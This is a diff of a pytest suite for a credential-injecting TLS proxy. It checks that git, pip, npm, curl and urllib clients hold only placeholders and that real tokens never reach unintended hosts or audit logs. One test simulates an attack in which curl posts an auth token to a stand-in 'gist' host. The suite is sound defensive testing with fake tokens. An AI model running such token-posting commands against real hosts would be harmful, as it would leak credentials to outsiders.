@@ -44,7 +44,6 @@ pytestmark = pytest.mark.netns
 
 TOKEN = "ghp_rcctestREALtoken0123456789"
 WRONG = "ghp_rcctestWRONGtoken000000000"
-API_KEY = "sk-ant-rcctest-REAL-key-0123456789"
 FAKE_API = Path(__file__).resolve().parent.parent / "agents" / "fake_anthropic.py"
 
 
@@ -56,19 +55,49 @@ def tool(name: str) -> str:
 
 
 class Client:
-    """Runs real clients either straight at the test hosts' addresses or by name through rcc's proxy."""
+    """Runs real clients straight at the test hosts' addresses ("direct"), by name through rcc's proxy as a plain
+    tunnel ("proxy"), or through rcc's proxy holding TOKEN as a credential for every site but other.test
+    ("terminated": the client holds only the placeholder and trusts the session CA, as a sandboxed one does)."""
 
     def __init__(self, via: str, sites: TlsSites, start_proxy: Callable[..., RunningProxy], home: Path) -> None:
         self.via, self.sites, self.home = via, sites, home
         self._start_proxy = start_proxy
         self.proxy: RunningProxy | None = None
+        self.placeholder = ""
+        self.cafile = sites.ca.cert
         home.mkdir(exist_ok=True)
 
     def host(self, name: str) -> str:
-        """What a URL names: the test host's address directly, its name through the proxy."""
-        if self.via == "proxy" and self.proxy is None:
-            self.proxy = self._start_proxy(list(self.sites.resolve), resolve=self.sites.resolve)
+        """What a URL names: the test host's address directly, its name through the proxy. Starts the proxy on
+        first use: call it after serving every site of the test."""
+        if self.via != "direct" and self.proxy is None:
+            kw: dict[str, object] = {}
+            if self.via == "terminated":
+                kw["terminator"] = self._terminator()
+            self.proxy = self._start_proxy(list(self.sites.resolve), resolve=self.sites.resolve, **kw)
         return self.sites.hosts[name].address if self.via == "direct" else name
+
+    def _terminator(self) -> object:
+        from rcc.net.credentials import Credential, CredentialSet, new_placeholder
+        from rcc.net.sessionca import SessionCA, upstream_context
+        from rcc.net.terminate import Terminator
+
+        ca = SessionCA.create("test")
+        self.placeholder = new_placeholder("test")
+        hosts = tuple(n for n in self.sites.hosts if n != "other.test")
+        creds = CredentialSet([Credential("test", "TEST_TOKEN", hosts, self.placeholder, TOKEN)])
+        bundle = self.home / "ca-bundle.pem"  # what rcc gives a sandbox: the session CA next to what it trusts
+        bundle.write_bytes(ca.cert_pem() + Path(self.sites.ca.cert).read_bytes())
+        self.cafile = str(bundle)
+        return Terminator(ca, creds, upstream=upstream_context(self.sites.ca.cert))
+
+    def secret(self, token: str) -> str:
+        """What the client holds for `token`: the placeholder for the real TOKEN through a terminating proxy."""
+        return self.placeholder if self.via == "terminated" and token == TOKEN else token
+
+    def never_leaked_placeholder(self, seen: Seen) -> None:
+        if self.placeholder:
+            assert not seen.contains(self.placeholder)
 
     def env(self, extra: dict[str, str] | None = None) -> dict[str, str]:
         env = {"PATH": os.environ["PATH"], "HOME": str(self.home), "LANG": "C.UTF-8"}
@@ -85,7 +114,7 @@ class Client:
 
     def git_env(self) -> dict[str, str]:
         return {
-            "GIT_SSL_CAINFO": self.sites.ca.cert,
+            "GIT_SSL_CAINFO": self.cafile,
             "GIT_CONFIG_NOSYSTEM": "1",
             "GIT_TERMINAL_PROMPT": "0",
             "GIT_AUTHOR_NAME": "t",
@@ -95,13 +124,20 @@ class Client:
         }
 
     def tunnelled(self, name: str) -> None:
-        """Through the proxy, the connections were plain tunnels to `name` (audit records)."""
-        if self.proxy is not None:
-            recs = self.proxy.records()
-            assert recs and {(r["proto"], r["host"], r["decision"]) for r in recs} == {("connect", name, "allow")}
+        """Through the proxy, the connections were plain tunnels to `name`, or terminated with the credential
+        injected when the proxy holds one for it (audit records)."""
+        if self.proxy is None:
+            return
+        recs = self.proxy.records()
+        assert recs and all(r["host"] == name and r["decision"] == "allow" for r in recs), recs
+        if self.via == "terminated" and name != "other.test":
+            assert any(str(r["rule"]).startswith("credential:test") for r in recs), recs
+            assert TOKEN not in self.proxy.audit.read_text()
+        else:
+            assert {r["proto"] for r in recs} == {"connect"}
 
 
-@pytest.fixture(params=["direct", "proxy"])
+@pytest.fixture(params=["direct", "proxy", "terminated"])
 def client(request, tls_sites: TlsSites, start_proxy, tmp_path: Path) -> Client:  # type: ignore[no-untyped-def]  # noqa: F811
     return Client(request.param, tls_sites, start_proxy, tmp_path / "home")
 
@@ -120,7 +156,8 @@ def git_site(client: Client, tmp_path: Path, seen: Seen) -> Path:
 def test_git_clone_and_push_with_token_in_basic_auth(client: Client, tmp_path: Path) -> None:
     git, seen = tool("git"), Seen()
     bare = git_site(client, tmp_path, seen)
-    url = f"https://x-access-token:{TOKEN}@{client.host('github.test')}/repo.git"
+    host = client.host("github.test")
+    url = f"https://x-access-token:{client.secret(TOKEN)}@{host}/repo.git"
     clone = tmp_path / "clone"
     r = client.run([git, "clone", "-q", url, str(clone)], client.git_env())
     assert r.returncode == 0, r.stderr
@@ -132,6 +169,7 @@ def test_git_clone_and_push_with_token_in_basic_auth(client: Client, tmp_path: P
     head = client.run([git, "-C", str(clone), "rev-parse", "HEAD"]).stdout.strip()
     assert branch_head(bare) == head
     assert any(r.basic_password() == TOKEN and "git-receive-pack" in r.path for r in seen.all())
+    client.never_leaked_placeholder(seen)
     client.tunnelled("github.test")
 
 
@@ -154,8 +192,9 @@ def test_pip_install_from_private_index_with_token(client: Client, tmp_path: Pat
     client.sites.serve("pypi.test", pypi_handler(build_wheel(tmp_path), TOKEN, seen))
     target = tmp_path / "site"
     argv = [sys.executable, "-m", "pip", "install", "--no-cache-dir", "--disable-pip-version-check", "-q"]
-    argv += ["--target", str(target), "--cert", client.sites.ca.cert]
-    argv += ["--index-url", f"https://__token__:{token}@{client.host('pypi.test')}/simple/", PKG]
+    host = client.host("pypi.test")
+    argv += ["--target", str(target), "--cert", client.cafile]
+    argv += ["--index-url", f"https://__token__:{client.secret(token)}@{host}/simple/", PKG]
     r = client.run(argv, {"PIP_NO_INPUT": "1"})
     if token == WRONG:
         assert r.returncode != 0 and "401" in r.stderr + r.stdout
@@ -164,6 +203,7 @@ def test_pip_install_from_private_index_with_token(client: Client, tmp_path: Pat
     assert r.returncode == 0, r.stderr + r.stdout
     assert PKG_MESSAGE in (target / "rcc_probe_pkg" / "__init__.py").read_text()
     assert seen.all() and all(r.basic_password() == TOKEN for r in seen.all())
+    client.never_leaked_placeholder(seen)
     client.tunnelled("pypi.test")
 
 
@@ -179,7 +219,7 @@ def test_npm_install_from_private_registry_with_token(client: Client, tmp_path: 
     proj.mkdir()
     (proj / "package.json").write_text('{"name": "p", "version": "0.0.0", "private": true}')
     (proj / ".npmrc").write_text(
-        f"registry=https://{reg}/\n//{reg}/:_authToken={token}\ncafile={client.sites.ca.cert}\n"
+        f"registry=https://{reg}/\n//{reg}/:_authToken={client.secret(token)}\ncafile={client.cafile}\n"
         "audit=false\nfund=false\nupdate-notifier=false\n"
     )
     r = client.run([npm, "install", PKG], {"npm_config_cache": str(tmp_path / "npm-cache")}, cwd=proj)
@@ -189,24 +229,33 @@ def test_npm_install_from_private_registry_with_token(client: Client, tmp_path: 
     assert r.returncode == 0, r.stderr + r.stdout
     assert PKG_MESSAGE in (proj / "node_modules" / PKG / "index.js").read_text()
     assert seen.all() and all(r.bearer() == TOKEN for r in seen.all())
+    client.never_leaked_placeholder(seen)
     client.tunnelled("npm.test")
 
 
 # ------------------------------------------------------------------------------------------------ curl, Python
 
 
-def test_curl_sends_what_it_is_given_to_the_recorder(client: Client) -> None:
-    seen = Seen()
+def test_token_sent_to_another_allowed_host_arrives_as_what_the_client_holds(client: Client, tmp_path: Path) -> None:
+    """Attack (terminated): a client posts its token to another allowed host (a gist, an issue comment): that host
+    gets the placeholder, never the real value. Control in the same run: the credential's host gets the real one."""
+    curl, seen, index_seen = tool("curl"), Seen(), Seen()
     client.sites.serve("other.test", recorder_handler(seen))
-    url = f"https://{client.host('other.test')}/gist"
-    auth = f"Authorization: token {TOKEN}"
-    r = client.run(
-        [tool("curl"), "-sS", "--max-time", "10", "--cacert", client.sites.ca.cert, "-H", auth, "-d", "hi", url]
-    )
+    client.sites.serve("pypi.test", pypi_handler(build_wheel(tmp_path), TOKEN, index_seen))
+    other, index = client.host("other.test"), client.host("pypi.test")
+    held = client.secret(TOKEN)
+    base = [curl, "-sS", "--max-time", "10", "--cacert", client.cafile]
+    r = client.run([*base, "-H", f"Authorization: token {held}", "-d", "hi", f"https://{other}/gist"])
     assert r.returncode == 0 and r.stdout == "recorded\n", r.stderr
     (req,) = seen.all()
-    assert (req.method, req.path, req.header("Authorization")) == ("POST", "/gist", f"token {TOKEN}")
-    client.tunnelled("other.test")
+    assert (req.method, req.path, req.header("Authorization")) == ("POST", "/gist", f"token {held}")
+    if client.via == "terminated":
+        assert held != TOKEN and not seen.contains(TOKEN)
+    r = client.run(
+        [*base, "-o", "/dev/null", "-w", "%{http_code}", "-u", f"__token__:{held}", f"https://{index}/simple/{PKG}/"]
+    )
+    assert r.stdout == "200", r.stderr
+    assert [x.basic_password() for x in index_seen.all()] == [TOKEN]
 
 
 def test_python_urllib_basic_auth_to_private_index(client: Client, tmp_path: Path) -> None:
@@ -221,9 +270,12 @@ def test_python_urllib_basic_auth_to_private_index(client: Client, tmp_path: Pat
         "print(urllib.request.urlopen(req, context=ctx, timeout=10).read().decode())\n"
     )
     url = f"https://{client.host('pypi.test')}/simple/{PKG}/"
-    r = client.run([sys.executable, "-c", code, url], {"PYPI_TOKEN": TOKEN, "SSL_CERT_FILE": client.sites.ca.cert})
+    r = client.run(
+        [sys.executable, "-c", code, url], {"PYPI_TOKEN": client.secret(TOKEN), "SSL_CERT_FILE": client.cafile}
+    )
     assert r.returncode == 0 and "rcc_probe_pkg-0.1-py3-none-any.whl" in r.stdout, r.stderr
     assert [x.basic_password() for x in seen.all()] == [TOKEN]
+    client.never_leaked_placeholder(seen)
     client.tunnelled("pypi.test")
 
 
@@ -243,17 +295,27 @@ def test_fake_anthropic_over_tls_records_which_key_it_got(client: Client, tmp_pa
     assert proc.stdout is not None and proc.stdout.readline().startswith(b"listening")
     msgs = [{"role": "user", "content": "hi"}]
     body = json.dumps({"model": "m", "max_tokens": 5, "messages": msgs, "tools": [{"name": "Bash"}]})
-    argv = [tool("curl"), "-sS", "--max-time", "10", "--cacert", sites.ca.cert, "-H", f"x-api-key: {API_KEY}"]
+    url = f"https://{client.host('api.test')}/v1/messages"
+    argv = [
+        tool("curl"),
+        "-sS",
+        "--max-time",
+        "10",
+        "--cacert",
+        client.cafile,
+        "-H",
+        f"x-api-key: {client.secret(TOKEN)}",
+    ]
     argv += ["-H", "content-type: application/json", "--data", body]
-    r = client.run([*argv, f"https://{client.host('api.test')}/v1/messages"])
+    r = client.run([*argv, url])
     assert r.returncode == 0, r.stderr
     assert json.loads(r.stdout)["content"][0]["text"] == "hello over tls"
     deadline = time.monotonic() + 5
     while not log.exists() and time.monotonic() < deadline:
         time.sleep(0.02)
     (rec,) = [json.loads(x) for x in log.read_text().splitlines()]
-    assert rec["x_api_key_sha256"] == hashlib.sha256(API_KEY.encode()).hexdigest()
-    assert API_KEY not in log.read_text()
+    assert rec["x_api_key_sha256"] == hashlib.sha256(TOKEN.encode()).hexdigest()
+    assert TOKEN not in log.read_text()
     client.tunnelled("api.test")
 
 
